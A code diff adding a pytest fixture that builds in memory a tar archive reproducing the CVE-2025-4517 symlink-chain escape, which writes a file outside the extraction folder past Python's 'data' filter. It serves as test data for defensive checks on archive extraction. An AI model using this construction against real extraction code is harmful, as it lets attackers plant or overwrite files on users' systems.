@@ -10,6 +10,8 @@ from __future__ import annotations
 
 import email.utils
 import hashlib
+import io
+import tarfile
 import threading
 import warnings
 import zlib
@@ -190,3 +192,32 @@ def ftp_server(tmp_path: Path) -> Iterator[FtpServer]:
         stop.set()
         thread.join(timeout=STOP_TIMEOUT_S)
         server.close_all()
+
+
+@pytest.fixture(scope="session")
+def symlink_chain_tgz() -> bytes:
+    """The CVE-2025-4517 pattern (see tests/data/test_archives.py): ``escape/escaped.txt`` lands in the parent
+    of the folder it is unpacked into, through symlinks the ``"data"`` filter of Python < 3.11.13 accepts."""
+    long_dir, steps, prefix = "d" * 247, "abcdefghijklmnop", ""
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
+        for step in steps:
+            folder = tarfile.TarInfo(f"{prefix}{long_dir}")
+            folder.type = tarfile.DIRTYPE
+            tar.addfile(folder)
+            link = tarfile.TarInfo(f"{prefix}{step}")
+            link.type, link.linkname = tarfile.SYMTYPE, long_dir
+            tar.addfile(link)
+            prefix += long_dir + "/"
+        top = "/".join(steps) + "/" + "l" * 254
+        link = tarfile.TarInfo(top)
+        link.type, link.linkname = tarfile.SYMTYPE, "../" * len(steps)
+        tar.addfile(link)
+        escape = tarfile.TarInfo("escape")
+        escape.type, escape.linkname = tarfile.SYMTYPE, top + "/.."
+        tar.addfile(escape)
+        data = b"written outside the destination\n"
+        member = tarfile.TarInfo("escape/escaped.txt")
+        member.size = len(data)
+        tar.addfile(member, io.BytesIO(data))
+    return buffer.getvalue()
